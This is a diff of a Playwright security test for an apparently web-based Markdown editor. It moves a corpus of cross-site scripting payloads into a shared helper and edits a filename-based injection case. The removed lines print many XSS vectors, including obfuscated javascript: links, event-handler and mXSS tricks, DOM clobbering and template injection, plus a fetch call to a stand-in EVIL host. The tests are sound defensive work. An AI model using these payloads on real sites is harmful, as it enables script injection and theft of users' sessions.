@@ -5,45 +5,8 @@ import type { Page } from '@playwright/test';
 import { createAccount, createGroup, loginAdmin, mustPost, type Account } from '../tests/_support/accounts.ts';
 import { runSql } from '../tests/_support/run-sql.ts';
 import { readEditor, waitForEditor } from './_support/editor.ts';
+import { CALL, HOSTILE, MARK } from './_support/hostile.ts';
 import { expect, openAs, test, watch } from './_support/journey.ts';
-
-/** What every hostile text tries to do: any of it leaves this mark, or a request to the other host. */
-const MARK = 'globalThis.abused=1';
-const CALL = `${MARK};fetch('http://EVIL/called')`;
-
-const HOSTILE = `---
-title: '<img src=x onerror="${MARK}">'
-header-includes: <script>${MARK}</script>
-lang: '"><script>${MARK}</script>'
----
-
-# Heading {#location onclick="${MARK}"} <svg/onload=${MARK}>
-
-[a](javascript:${MARK}) [b](JaVaScRiPt:${MARK}) [c](java&#10;script:${MARK}) [d](&#106;avascript:${MARK})
-[e](data:text/html,<script>${MARK}</script>) [f](vbscript:x) [g](blob:http://EVIL/x) <javascript:${MARK}>
-[h][ref] ![i](javascript:${MARK}) ![j](x" onerror="${MARK}) ![k](http://EVIL/picture.png)
-
-[ref]: javascript:${MARK}
-
-<img src=x onerror="${MARK}"><svg/onload=${MARK}><details open ontoggle=${MARK}>x</details>
-<math><mtext><table><mglyph><style><img src=x onerror=${MARK}></style></mglyph></table></mtext></math>
-<form><button formaction="javascript:${MARK}">x</button></form><iframe srcdoc="<script>${MARK}</script>"></iframe>
-<style>@import 'http://EVIL/style.css'; .cm-content{display:none}</style>
-<p style="background:url(http://EVIL/style.png)">styled</p><a id=location name=cookie>clobber</a>
-
-| a | b |
-|---|---|
-| <img src=x onerror=${MARK}> | [x](javascript:${MARK}) |
-
-\`\`\`{.html onclick="${MARK}"} <script>
-<script>${MARK}</script>
-\`\`\`
-
-<!-- <script>${MARK}</script> --> {{constructor.constructor('${MARK}')()}} \${${MARK}} {@html x}
-$\\href{javascript:${MARK}}{x} \\htmlId{location}{y} \\includegraphics{http://EVIL/tex.png}$ [^n]
-
-[^n]: <img src=x onerror=${MARK}>
-`;
 
 test.describe('somebody hostile', () => {
   let ada: Account;
@@ -143,8 +106,8 @@ test.describe('somebody hostile', () => {
     await mustPost(mallory.client, '/api/user/set-data', { displayName: name });
     await mustPost(admin.client, '/api/admin/settings/update', { key: 'app_name', value: name });
     try {
-      await upload(`'"><svg onload=${MARK}>.md`, 'text\n');
-      const path = `/workspace/${uuid}/${encodeURIComponent(`'"><svg onload=${MARK}>.md`)}`;
+      await upload(`'><svg onload=${MARK}>.md`, 'text\n');
+      const path = `/workspace/${uuid}/${encodeURIComponent(`'><svg onload=${MARK}>.md`)}`;
       const hers = await openAs(browser, mallory, path);
       await waitForEditor(hers.page);
       await hers.page.locator('.cm-content').first().click();
